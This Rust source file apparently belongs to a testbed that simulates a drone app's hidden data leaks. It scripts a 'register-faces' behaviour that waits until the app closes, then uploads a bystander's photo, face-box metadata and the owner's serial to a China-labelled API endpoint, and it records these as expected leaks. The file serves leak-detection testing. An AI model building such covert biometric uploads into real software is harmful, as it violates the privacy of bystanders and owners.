//! A picture of somebody goes to China when the aircraft is off and the app is closed.

use super::{Behaviour, multipart};
use crate::{Error, app::Outgoing, clouds::Role, play::passer_by, stage::Stage, truth::Leak};

/// The switch.
pub(super) const THIS: Behaviour = Behaviour {
    name: "register-faces",
    plays: "register facial recognition data even when the system is off",
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: Stage) -> Result<(), Error> {
    let mut random = stage.random();
    stage.after(stage.plan.app_closed, 8.0, &mut random).await;
    let path = passer_by();
    let picture = stage.file(&path);
    let file = stage.named(&path);
    let leaks = vec![
        Leak { file: file.clone(), faces: Some(1), ..Leak::new("imagery", path.as_str(), "multipart") },
        Leak { file, ..Leak::new("face", "a face that looks into the camera", "jpeg-pixels") },
        Leak::new("serial", &stage.owner.serial, "exif").within("body/exif"),
    ];
    let boxed = br#"{"faces":[{"box":[212,148,170,170],"quality":0.93}]}"#;
    let parts = [
        ("meta", None, "application/json", boxed.as_slice()),
        ("image", Some("f0.jpg"), "image/jpeg", picture),
    ];
    let (kind, body) = multipart(&parts, &mut random);
    stage.send(Role::ApiCn, Outgoing::post("/v1/faces", &kind, body), leaks).await?;
    Ok(())
}
